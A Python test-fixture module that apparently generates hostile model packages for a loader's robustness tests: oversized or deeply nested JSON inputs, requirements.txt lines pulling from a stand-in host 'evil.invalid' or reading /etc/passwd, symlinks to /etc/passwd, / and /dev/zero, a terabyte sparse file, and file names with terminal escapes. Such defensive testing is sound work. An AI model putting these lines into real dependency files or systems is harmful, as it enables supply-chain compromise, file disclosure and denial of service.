"""Files beside the model: examples, requirements, seals, and what should not be there at all."""

from __future__ import annotations

import json
import os
from collections.abc import Callable, Iterator
from pathlib import Path

from hostile_packages.bases import iris_package
from hostile_packages.package import EITHER, HostilePackage

_EXAMPLE = "serving_input_example.json"


def side_files() -> Iterator[HostilePackage]:
    for name, content in _EXAMPLES.items():
        yield HostilePackage("example", name, _with(_EXAMPLE, content), EITHER, quick=True)
    for name, lines in _REQUIREMENTS.items():
        yield HostilePackage("requirements", name, _with("requirements.txt", lines), EITHER, quick=True)
    for name, (file, make) in _SPECIAL.items():
        yield HostilePackage("files", name, _special(file, make), quick=True)
    yield HostilePackage("seal", "that lists nothing", _with("SHA256SUMS", b""), quick=True)
    yield HostilePackage("seal", "that is nonsense", _with("SHA256SUMS", b"\xff\xfe nonsense\n"), quick=True)
    yield HostilePackage(
        "seal", "of a million lines", _with("SHA256SUMS", b"0" * 64 + b"  gone\n" * 1_000_000), quick=True
    )


def _with(name: str, content: bytes) -> Callable[[Path], None]:
    def make(place: Path) -> None:
        iris_package(place)
        (place / name).write_bytes(content)

    return make


def _special(file: str, replace: Callable[[Path], object]) -> Callable[[Path], None]:
    def make(place: Path) -> None:
        iris_package(place)
        (place / file).unlink(missing_ok=True)
        replace(place / file)

    return make


def _sparse(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(2**40)


def _records(count: int) -> bytes:
    return json.dumps({"dataframe_records": [{f"a{i}": 1} for i in range(count)]}).encode()


_EXAMPLES = {
    "records that share no key": _records(20_000),
    "lists in lists": b'{"inputs": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "one row of a million cells": b'{"dataframe_split": {"data": [[' + b"1," * 1_000_000 + b"1], [1], [1]]}}",
    "20 MB": b'{"inputs": [' + b"1.5," * 5_000_000 + b"1.5]}",
    "no JSON": b"nonsense",
    "no object": b"[1, 2]",
    "half characters": b'{"inputs": ["\\ud800"]}',
    "rows that are none": b'{"dataframe_split": {"data": 5, "columns": {}}}',
}

_REQUIREMENTS = {
    "an index of its own": b"--index-url https://evil.invalid/simple\nscikit-learn==1.0\n",
    "an address": b"numpy @ https://evil.invalid/numpy-1.0-py3-none-any.whl\n",
    "a repository": b"git+https://evil.invalid/x.git\n",
    "a path": b"-e ../../\n",
    "another file": b"-r /etc/passwd\n",
    "a file that refers to itself": b"-r requirements.txt\n",
    "an option behind a marker": b"numpy==2.1.0 ; python_version > '3' --config-settings=x=y\n",
    "2 MB of lines": b"a==1\n" * 400_000,
    "a name of a megabyte": b"a" * 1_000_000,
}

_SPECIAL: dict[str, tuple[str, Callable[[Path], object]]] = {
    "the model is a pipe": ("model.skops", os.mkfifo),
    "the model is a link outside": ("model.skops", lambda path: path.symlink_to("/etc/passwd")),
    "the model is a directory": ("model.skops", Path.mkdir),
    "an example that is a pipe": (_EXAMPLE, os.mkfifo),
    "a link to a directory": ("more", lambda path: path.symlink_to("/")),
    "a seal that is a pipe": ("SHA256SUMS", os.mkfifo),
    "requirements that are a device": ("requirements.txt", lambda path: path.symlink_to("/dev/zero")),
    "a terabyte without content": ("weights.bin", _sparse),
    "a name with an end of line": ("a\nb", Path.touch),
    "a name with an escape": ("\x1b[31m", Path.touch),
}
